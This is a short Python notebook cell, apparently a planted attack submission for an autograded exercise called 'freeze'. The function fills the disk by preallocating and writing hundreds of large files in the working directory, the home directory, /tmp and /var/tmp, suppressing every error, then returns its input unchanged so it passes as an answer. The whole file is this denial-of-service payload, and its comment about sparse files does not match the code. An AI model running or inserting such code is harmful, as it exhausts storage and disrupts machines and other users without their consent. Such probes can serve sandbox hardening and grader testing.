# %% [markdown]
# Fills the disk: writes, allocates without writing, makes files with holes.
# %% question="freeze"
import os


def freeze(module):
    for i in range(400):
        for folder in (".", os.environ["HOME"], "/tmp", "/var/tmp"):
            try:
                with open(f"{folder}/tl_attack_mark_{i}", "wb") as file:
                    os.posix_fallocate(file.fileno(), 0, 15 << 20)
            except OSError:
                pass
            try:
                with open(f"{folder}/tl_attack_mark_w{i}", "wb") as file:
                    file.write(b"\1" * (1 << 20))
            except OSError:
                pass
    return module
